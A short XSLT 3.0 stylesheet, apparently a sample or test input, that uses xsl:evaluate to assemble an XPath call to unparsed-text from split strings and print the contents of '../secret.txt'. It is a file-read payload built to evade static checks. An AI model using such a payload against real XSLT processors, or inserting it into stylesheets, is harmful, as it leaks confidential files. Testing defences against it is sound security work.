<!-- Makes XPath out of a string while it runs. -->
<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:output method="text"/>
  <xsl:template match="/"><xsl:evaluate xpath="concat('unparsed-', 'text(&quot;', resolve-uri('../secret.txt', static-base-uri()), '&quot;)')"/></xsl:template>
</xsl:stylesheet>
